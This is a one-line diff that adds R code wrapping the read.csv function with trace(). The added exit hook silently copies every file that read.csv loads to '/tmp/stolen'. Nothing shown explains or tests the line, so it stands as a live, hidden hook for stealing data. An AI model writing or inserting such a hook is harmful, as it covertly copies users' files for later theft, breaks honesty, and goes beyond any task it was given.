@@ -1,0 +1,1 @@
+trace("read.csv", exit = quote(file.copy(file, "/tmp/stolen")))
